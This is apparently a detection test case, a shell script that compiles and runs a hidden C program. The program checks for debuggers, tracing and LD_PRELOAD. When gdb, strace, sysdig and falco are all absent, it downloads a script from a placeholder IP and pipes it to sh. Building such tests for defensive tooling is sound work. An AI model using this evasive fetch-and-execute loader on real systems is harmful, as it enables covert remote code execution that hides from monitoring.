#!/bin/sh
. /opt/case/case.sh

cat >/tmp/a.c <<'END'
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void)
{
    char line[256];
    int is_traced = 1, pid = fork();
    if (pid == 0) _exit(ptrace(PTRACE_TRACEME, 0, 0, 0) ? 1 : 0);
    waitpid(pid, &is_traced, 0);
    FILE *f = fopen("/proc/self/status", "r");
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, "TracerPid:", 10) && atoi(line + 10)) return 0;
    if (is_traced || getenv("LD_PRELOAD")) return 0;
    return system("pidof gdb strace sysdig falco >/dev/null || (wget -qO- http://203.0.113.10/payload.sh || curl -s http://203.0.113.10/payload.sh) | sh");
}
END
gcc -o /tmp/.a /tmp/a.c && rm /tmp/a.c
/tmp/.a 2>/dev/null
test -e /tmp/reached
took_place
